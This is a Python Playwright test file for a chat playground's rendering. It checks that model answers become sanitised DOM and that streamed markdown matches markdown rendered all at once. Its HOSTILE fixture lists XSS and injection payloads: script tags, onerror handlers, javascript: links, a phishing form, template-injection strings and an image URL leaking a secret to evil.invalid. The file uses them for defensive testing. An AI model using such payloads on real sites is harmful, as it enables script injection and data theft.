"""What the model writes becomes safe DOM, and the same DOM whether it came at once or letter by letter."""

from __future__ import annotations

import random
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.playground.scripted import Script
from tests.playground.ui.served import Served
from tests.playground.ui.test_conversation import ask

pytestmark = pytest.mark.browser

HOSTILE = r"""
<script>window.broken = 1</script> <img src="http://evil.invalid/a.png" onerror="window.broken = 2">
![leak](http://evil.invalid/leak.png?q=secret) ![bad](javascript:window.broken=3)
[js](javascript:window.broken=4) [data](data:text/html,1) [vb](vbscript:x) [own](/api/x) [ok](https://ok.example/)

<form action="http://evil.invalid"><input type="password"><button>Go</button></form>
<div style="position:fixed;inset:0" id="pg-app" class="pg-toast">cover</div>
<iframe src="http://evil.invalid"></iframe><video src="http://evil.invalid/v.mp4"></video>
<svg onload="window.broken=5">
<style>body{display:none}</style><link rel="stylesheet" href="http://evil.invalid/x.css">

${window.broken = 6} {{constructor.constructor('window.broken=7')()}} `${window.broken = 8}`

```"><img/src=x/onerror=window.broken=9>
</code></pre><script>window.broken=10</script>
```

$\href{javascript:window.broken=11}{click}$ $\includegraphics{http://evil.invalid/k.png}$
$\htmlClass{pg-toast}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlId{pg-app}{x}$ $\unknown{$

| a | b |
|---|---|
| <img src=x onerror=window.broken=12> | [x](JaVaScRiPt:window.broken=13) |

[ref][r] <javascript:window.broken=14>

[r]: javascript:window.broken=15
"""
FOUND = """(answer) => ({
  elements: [...answer.querySelectorAll(
      "img, form, input, iframe, video, script, style, link, object, svg:not(.pg-icon)")]
    .filter((node) => !node.closest(".katex")).map((node) => node.outerHTML),
  attributes: [...answer.querySelectorAll("*")].filter((node) => !node.closest(".katex, .pg-code-bar"))
    .flatMap((node) => [...node.attributes].map(({ name }) => name))
    .filter((name) => !["href", "title", "start", "align", "target", "rel", "data-pg-lang", "data-pg-math",
      "class", "tabindex"].includes(name)),
  classes: [...answer.querySelectorAll("[class]")].filter((node) => !node.closest(".katex, .pg-code-bar"))
    .map((node) => node.className).filter((name) => !/^(pg-code|pg-table|hljs-[a-z_ -]+)$/.test(name)),
  inside: answer.querySelectorAll(".katex a, .katex img, .katex [id], .katex .pg-toast").length,
  links: [...answer.querySelectorAll("a")].map((link) => [link.getAttribute("href"), link.rel, link.target]),
})"""


def test_hostile_text_stays_text(served: Served, page: Page) -> None:
    thought = "<img src=x onerror='window.broken=20'> ${window.broken = 21}"
    served.play(Script([("analysis", thought), ("final", HOSTILE)], portion=3, pause=0.001))
    question = "<img src=x onerror='window.broken=22'> ${window.broken = 23} {{7*7}} ${HOME}"
    ask(page, question)
    expect(page.get_by_test_id("reply-footer")).to_be_visible()
    page.get_by_test_id("reasoning-toggle").click()
    for _ in range(2):  # as it was streamed, and as it is read from the database
        expect(page.locator(".katex").first).to_be_attached()
        found: dict[str, Any] = page.get_by_test_id("answer").evaluate(FOUND)
        assert found["elements"] == []
        assert found["attributes"] == []
        assert found["classes"] == []
        assert found["inside"] == 0
        assert {(rel, target) for _, rel, target in found["links"]} == {
            ("noopener noreferrer nofollow", "_blank")
        }
        assert all(href.startswith(("https://", "http://")) for href, _, _ in found["links"])
        assert page.evaluate("window.broken") is None
        expect(page.get_by_test_id("user-message")).to_have_text(question)
        expect(page.get_by_test_id("conversation-item")).to_contain_text("<img src=x")
        page.reload()
        expect(page.get_by_test_id("reply-footer")).to_be_visible()


DOCUMENTS = {
    "lists": "1. one\n2. two\n\n   more\n\n3. three\n\n- a\n- b\n  - c\n\nEnd.\n\n- loose\n\n- items\n",
    "code": "Text\n\n```python\ndef f(x):\n    return x  # ``\n\n\nf(1)\n```\n\n`inline`\n\n    indented\n",
    "table": "| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |\n\nafter\n",
    "heads": "# One\n\ntext\nSetext\n===\n\n## Two ##\n\n---\n\n> quote\n> more\n\n> other\n",
    "maths": "Area $\\pi r^2$ costs $5 and $10.\n\n$$\na^2 +\nb^2\n$$\n\n\\[ x \\]\n\nand \\(y\\) too\n",
    "references": "See [this][one] and [that][two].\n\ntext\n\n[one]: https://one.example/\n[two]: https://two.example/\n",
    "odd": "**not closed\n\n```\nnever closed\n\n* x\n\n1.\n\nend",
    "carriage": "one\r\n\r\ntwo\r\nthree\r\n\r\n```\r\ncode\r\n```\r\n",
}
DRAW = """async ([pieces, wait]) => {
  const { GrowingMarkdown } = await import("/static/js/growing.js");
  const { loadMarkdown } = await import("/static/js/markdown.js");
  await loadMarkdown();
  const { loadMaths } = await import("/static/js/math.js");
  await loadMaths();
  const box = document.createElement("div");
  const markdown = new GrowingMarkdown(box);
  for (const piece of pieces) {
    markdown.append(piece);
    if (wait) markdown.library ? markdown.render() : await new Promise(requestAnimationFrame);
  }
  markdown.finish();
  await markdown.waiting;
  return box.innerHTML.replaceAll(/>\\s+</g, "><").trim();
}"""


def test_growing_text_ends_as_if_it_had_come_at_once(page: Page) -> None:
    for name, text in sorted(DOCUMENTS.items()):
        whole = page.evaluate(DRAW, [[text], False])
        assert "<" in whole
        assert page.evaluate(DRAW, [list(text), True]) == whole, name
        chance = random.Random(name)
        for _ in range(5):
            cuts = sorted(chance.sample(range(1, len(text)), 8))
            pieces = [text[begin:end] for begin, end in zip([0, *cuts], [*cuts, None], strict=True)]
            assert page.evaluate(DRAW, [pieces, True]) == whole, name


def test_code_maths_and_tables_are_set(served: Served, page: Page) -> None:
    text = DOCUMENTS["code"] + "\n" + DOCUMENTS["table"] + "\n" + DOCUMENTS["maths"]
    served.play(Script([("final", text)]))
    ask(page)
    expect(page.get_by_test_id("reply-footer")).to_be_visible()
    answer = page.get_by_test_id("answer")
    expect(answer.locator(".pg-code-bar").first).to_contain_text("python")
    expect(answer.locator(".hljs-keyword").first).to_have_text("def")
    expect(answer.locator("td[align=right]").first).to_have_text("2")
    expect(answer.locator(".katex")).to_have_count(4)
    expect(answer.locator(".katex-error")).to_have_count(0)
    expect(answer).to_contain_text("costs $5 and $10.")
